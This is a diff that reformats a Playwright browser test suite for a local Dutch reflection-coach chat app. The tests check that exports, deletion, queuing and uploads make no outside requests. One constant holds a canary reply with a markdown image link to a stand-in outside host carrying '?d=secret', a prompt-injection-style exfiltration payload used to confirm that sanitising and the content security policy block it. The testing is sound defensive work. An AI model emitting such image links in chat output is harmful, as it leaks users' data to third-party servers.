@@ -29,16 +29,23 @@ pytestmark = [pytest.mark.slow, pytest.mark.browser]
 
 ROOT = Path(__file__).resolve().parent.parent
 CHROMIUM = Path("/usr/bin/chromium")
-CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking",
-                 "--disable-component-update", "--no-first-run", "--disable-sync"]
+CHROMIUM_ARGS = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--no-first-run",
+    "--disable-sync",
+]
 LOCAL_HOSTS = {"127.0.0.1", "localhost"}
 LEAK_HOST = "203.0.113.9"
 LEAK_REPLY = f"Je zegt ![x](http://{LEAK_HOST}/leak.png?d=secret) veel. Wat maakt dit lastig?"
 
 playwright_api = pytest.importorskip("playwright.sync_api")
 if not CHROMIUM.exists():
-    pytest.skip("Debian chromium is not installed (scripts/system-packages.sh)",
-                allow_module_level=True)
+    pytest.skip(
+        "Debian chromium is not installed (scripts/system-packages.sh)", allow_module_level=True
+    )
 
 
 def tiny_gguf() -> Path:
@@ -66,8 +73,10 @@ class PageLog:
         page.on("request", lambda r: self.requests.append(r.url))
         page.on("requestfailed", lambda r: self.failures.__setitem__(r.url, r.failure or ""))
         # Nothing may leave the machine even when a check is about to fail: abort it here.
-        page.route(re.compile(r"^(?!(https?|wss?)://(127\.0\.0\.1|localhost)[:/]).*"),
-                   lambda route: route.abort())
+        page.route(
+            re.compile(r"^(?!(https?|wss?)://(127\.0\.0\.1|localhost)[:/]).*"),
+            lambda route: route.abort(),
+        )
 
     @staticmethod
     def host(url: str) -> str:
@@ -101,15 +110,19 @@ def wait_http(url: str, proc: subprocess.Popen | None, log: Path, timeout: float
                     return
         except OSError:
             time.sleep(1)
-    pytest.fail(f"the app did not answer at {url} within {timeout} s:\n"
-                f"{log.read_text()[-3000:] if log.exists() else ''}")
+    pytest.fail(
+        f"the app did not answer at {url} within {timeout} s:\n"
+        f"{log.read_text()[-3000:] if log.exists() else ''}"
+    )
 
 
 # `coach serve --port N`, as the console script runs it. The egress guard has read
 # COACH_EGRESS_LOG by now (sitecustomize); settings reject unknown COACH_* names, so drop it.
-SERVE = ("import os, sys; os.environ.pop('COACH_EGRESS_LOG', None); "
-         "sys.argv = ['coach', 'serve', '--port', sys.argv[1]]; "
-         "from app.cli import main; main()")
+SERVE = (
+    "import os, sys; os.environ.pop('COACH_EGRESS_LOG', None); "
+    "sys.argv = ['coach', 'serve', '--port', sys.argv[1]]; "
+    "from app.cli import main; main()"
+)
 
 
 @pytest.fixture(scope="module")
@@ -120,11 +133,20 @@ def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
     home = home_from_template(tmp_path_factory.mktemp("browser") / "home")
     port = free_port()
     log = home.parent / "serve.log"
-    env = {**os.environ, "COACH_HOME": str(home), "COACH_MODEL": str(tiny_gguf()),
-           "COACH_MAX_TOKENS": "48"}
+    env = {
+        **os.environ,
+        "COACH_HOME": str(home),
+        "COACH_MODEL": str(tiny_gguf()),
+        "COACH_MAX_TOKENS": "48",
+    }
     with log.open("w") as out:
-        proc = subprocess.Popen([sys.executable, "-c", SERVE, str(port)], cwd=ROOT, env=env,
-                                stdout=out, stderr=subprocess.STDOUT)
+        proc = subprocess.Popen(
+            [sys.executable, "-c", SERVE, str(port)],
+            cwd=ROOT,
+            env=env,
+            stdout=out,
+            stderr=subprocess.STDOUT,
+        )
     try:
         wait_http(f"http://127.0.0.1:{port}/", proc, log, timeout=600)
         yield f"http://127.0.0.1:{port}/"
@@ -138,8 +160,7 @@ def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
 
 
 def open_app(browser: Any, url: str) -> tuple[Any, Any, PageLog]:
-    context = browser.new_context(accept_downloads=True, viewport={"width": 1280,
-                                                                   "height": 1000})
+    context = browser.new_context(accept_downloads=True, viewport={"width": 1280, "height": 1000})
     page = context.new_page()
     log = PageLog(page)
     page.goto(url, wait_until="load")
@@ -162,22 +183,24 @@ def say(page: Any, text: str, turn: int) -> str:
     page.fill("#message textarea", text)
     page.click("#send")
     page.wait_for_function(
-        "n => (document.querySelector('#session-pick input')?.value || '')"
-        ".endsWith('(' + n + ')')", arg=turn, timeout=180_000)
+        "n => (document.querySelector('#session-pick input')?.value || '').endsWith('(' + n + ')')",
+        arg=turn,
+        timeout=180_000,
+    )
     return str(page.locator('#chat [data-testid="bot"]').last.inner_text())
 
 
 def download(page: Any, selector: str, suffix: str = "") -> Path:
-    link = page.locator(f"{selector} a[download][href$='{suffix}']" if suffix
-                        else f"{selector} a[download]").first
+    link = page.locator(
+        f"{selector} a[download][href$='{suffix}']" if suffix else f"{selector} a[download]"
+    ).first
     link.wait_for(timeout=30_000)
     with page.expect_download() as info:
         link.click()
     return Path(info.value.path())
 
 
-def test_reflection_preparation_exports_and_deletion_stay_local(browser: Any,
-                                                                served: str) -> None:
+def test_reflection_preparation_exports_and_deletion_stay_local(browser: Any, served: str) -> None:
     import docx
 
     context, page, log = open_app(browser, served)
@@ -185,8 +208,12 @@ def test_reflection_preparation_exports_and_deletion_stay_local(browser: Any,
         page.wait_for_function("() => document.querySelector('#chat').innerText.includes('113')")
         page.evaluate(WATCH_STREAM)
         marker = f"project{uuid.uuid4().hex[:8]}"
-        first = say(page, f"Gisteren had ik een conflict met mijn collega over de planning van "
-                          f"het {marker}. Ik werd er boos van.", 1)
+        first = say(
+            page,
+            f"Gisteren had ik een conflict met mijn collega over de planning van "
+            f"het {marker}. Ik werd er boos van.",
+            1,
+        )
         assert len(first) > 10
         assert len(set(page.evaluate("window.__lengths"))) > 2, "the reply was not streamed"
         assert re.search(r"Fase [1-5] van 5: \w+", page.inner_text("#phase"))
@@ -208,7 +235,8 @@ def test_reflection_preparation_exports_and_deletion_stay_local(browser: Any,
         page.wait_for_function(
             "() => (document.querySelector('#questions textarea')?.value || '')"
             ".includes('## Fase')",
-            timeout=120_000)
+            timeout=120_000,
+        )
         questions = page.input_value("#questions textarea")
         assert questions.count("?") >= 3 and "(bron:" in questions
         page.click("#export-questions")
@@ -219,7 +247,9 @@ def test_reflection_preparation_exports_and_deletion_stay_local(browser: Any,
         page.click("#finish")
         page.wait_for_function(
             "() => (document.querySelector('#report-text textarea')?.value || '')"
-            ".includes('Reflectieverslag')", timeout=60_000)
+            ".includes('Reflectieverslag')",
+            timeout=60_000,
+        )
         edited = page.input_value("#report-text textarea") + "\nMijn eigen toevoeging.\n"
         page.fill("#report-text textarea", edited)
         page.click("#export-docx")
@@ -235,8 +265,8 @@ def test_reflection_preparation_exports_and_deletion_stay_local(browser: Any,
         page.click("#delete-session")
         page.click("#confirm-delete-session")
         page.wait_for_function(
-            "() => !(document.querySelector('#session-pick input')?.value || '')",
-            timeout=30_000)
+            "() => !(document.querySelector('#session-pick input')?.value || '')", timeout=30_000
+        )
         assert page.locator('#chat [data-testid="user"]').count() == 0
         page.get_by_role("tab", name="Instellingen en privacy").click()
         page.click("#export-all")
@@ -246,9 +276,9 @@ def test_reflection_preparation_exports_and_deletion_stay_local(browser: Any,
         page.click("#delete-all")
         page.click("#confirm-delete-all")
         page.wait_for_function(
-            "() => document.querySelector('#deleted-result').innerText"
-            ".includes('0 gesprekken')",
-            timeout=60_000)
+            "() => document.querySelector('#deleted-result').innerText.includes('0 gesprekken')",
+            timeout=60_000,
+        )
 
         # The interface speaks English when asked to.
         page.locator("#lang-pick label", has_text="English").click()
@@ -263,6 +293,7 @@ def test_reflection_preparation_exports_and_deletion_stay_local(browser: Any,
 
 
 # -- canaries: the request check must be able to fail -------------------------------------
+
 
 @pytest.fixture
 def in_process(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
@@ -281,12 +312,14 @@ def in_process(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]
             monkeypatch.setattr(sanitize, "neutralize", lambda text: text)
         if not csp:
             monkeypatch.setattr(web, "SECURITY_HEADERS", {})
-        coach = Coach(Settings(home=tmp_path / f"home{len(servers)}"), model=model,
-                      embedder=HashEmbedder()).open()
+        coach = Coach(
+            Settings(home=tmp_path / f"home{len(servers)}"), model=model, embedder=HashEmbedder()
+        ).open()
         coach.ready()
         port = free_port()
-        server = uvicorn.Server(uvicorn.Config(web.build_app(coach), host="127.0.0.1",
-                                               port=port, log_level="warning"))
+        server = uvicorn.Server(
+            uvicorn.Config(web.build_app(coach), host="127.0.0.1", port=port, log_level="warning")
+        )
         thread = threading.Thread(target=server.run, daemon=True)
         thread.start()
         servers.append((server, thread, coach))
@@ -314,8 +347,7 @@ def leak_attempts(browser: Any, url: str) -> PageLog:
     return log
 
 
-def test_canary_leaking_reply_is_caught_and_blocked_by_csp(browser: Any,
-                                                           in_process: Any) -> None:
+def test_canary_leaking_reply_is_caught_and_blocked_by_csp(browser: Any, in_process: Any) -> None:
     from app.chat_model import FakeChatModel
 
     url = in_process(FakeChatModel(default=LEAK_REPLY), neutralize=False)
@@ -341,8 +373,9 @@ def test_neutralised_reply_makes_no_request(browser: Any, in_process: Any) -> No
     assert any("/gradio_api/" in u for u in log.requests)
 
 
-def test_second_browser_waits_in_the_queue_and_sees_its_position(browser: Any,
-                                                                  in_process: Any) -> None:
+def test_second_browser_waits_in_the_queue_and_sees_its_position(
+    browser: Any, in_process: Any
+) -> None:
     url = in_process(SlowModel.make())
     first_ctx, first, _ = open_app(browser, url)
     second_ctx, second, _ = open_app(browser, url)
@@ -350,15 +383,18 @@ def test_second_browser_waits_in_the_queue_and_sees_its_position(browser: Any,
         first.fill("#message textarea", "Ik wil iets bespreken over mijn team.")
         first.click("#send")
         first.wait_for_function(
-            "() => document.querySelectorAll('#chat [data-testid=\"user\"]').length == 1")
+            "() => document.querySelectorAll('#chat [data-testid=\"user\"]').length == 1"
+        )
         second.fill("#message textarea", "Ik wil het hebben over een klant.")
         second.click("#send")
-        second.wait_for_function("() => /queue/i.test(document.querySelector('#chat').innerText)",
-                                 timeout=20_000)
+        second.wait_for_function(
+            "() => /queue/i.test(document.querySelector('#chat').innerText)", timeout=20_000
+        )
         # Each browser sees only its own conversation.
         second.wait_for_function(
             "() => (document.querySelector('#session-pick input')?.value || '').endsWith('(1)')",
-            timeout=60_000)
+            timeout=60_000,
+        )
         assert "klant" in second.inner_text("#chat")
         assert "team" not in second.inner_text("#chat")
         assert "klant" not in first.inner_text("#chat")
@@ -383,27 +419,27 @@ class SlowModel:
         return Slow()
 
 
-def test_stop_cancels_the_reply_and_gives_the_message_back(browser: Any,
-                                                           in_process: Any) -> None:
+def test_stop_cancels_the_reply_and_gives_the_message_back(browser: Any, in_process: Any) -> None:
     url = in_process(SlowModel.make(0.5))
     context, page, _ = open_app(browser, url)
     try:
         page.fill("#message textarea", "Ik wil iets bespreken over mijn team.")
         page.click("#send")
         page.wait_for_function(
-            "() => document.querySelectorAll('#chat [data-testid=\"user\"]').length == 1")
+            "() => document.querySelectorAll('#chat [data-testid=\"user\"]').length == 1"
+        )
         page.click("#stop")
         page.get_by_text("Gestopt.").first.wait_for(timeout=10_000)
         page.wait_for_function(
-            "() => document.querySelector('#message textarea').value.includes('team')")
+            "() => document.querySelector('#message textarea').value.includes('team')"
+        )
         page.wait_for_timeout(1500)
         assert page.locator('#chat [data-testid="user"]').count() == 0, page.inner_text("#chat")
     finally:
         context.close()
 
 
-def test_upload_lists_and_removes_a_document(browser: Any, in_process: Any,
-                                             tmp_path: Path) -> None:
+def test_upload_lists_and_removes_a_document(browser: Any, in_process: Any, tmp_path: Path) -> None:
     from app.chat_model import FakeChatModel
 
     doc = tmp_path / "teamafspraken.md"
@@ -417,13 +453,17 @@ def test_upload_lists_and_removes_a_document(browser: Any, in_process: Any,
         page.click("#add-docs")
         page.wait_for_function(
             "() => /teamafspraken\\.md: \\d+ stukken/.test("
-            "document.querySelector('#kb-status').innerText)", timeout=60_000)
+            "document.querySelector('#kb-status').innerText)",
+            timeout=60_000,
+        )
         page.click("#doc-pick input")
         page.get_by_role("option", name="teamafspraken.md").click()
         page.click("#remove-doc")
         page.wait_for_function(
             "() => document.querySelector('#kb-status').innerText"
-            ".includes('nog geen eigen documenten')", timeout=30_000)
+            ".includes('nog geen eigen documenten')",
+            timeout=30_000,
+        )
     finally:
         context.close()
     assert log.outside() == ([], [])
